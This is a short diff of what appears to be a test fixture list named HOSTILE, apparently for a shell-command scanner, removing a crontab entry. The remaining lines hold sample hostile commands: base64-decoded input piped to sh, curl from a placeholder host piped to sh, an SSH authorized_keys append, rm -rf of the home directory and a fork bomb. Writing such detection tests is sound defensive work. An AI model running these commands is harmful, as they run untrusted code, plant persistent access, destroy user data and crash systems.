@@ -15,7 +15,6 @@ HOSTILE = [
     ("a.sh", "echo aWQ= | base64 -d | sh"),
     ("a.sh", 'eval "$(echo aWQ= | base64 -d)"'),
     ("a.sh", "curl \\\n  http://x.invalid/a \\\n  | sh"),
-    ("a.sh", "echo '* * * * * x' | crontab -"),
     ("a.sh", "echo key >> ~/.ssh/authorized_keys"),
     ("a.sh", "rm -rf ~/"),
     ("a.sh", ":(){ :|:& };:"),
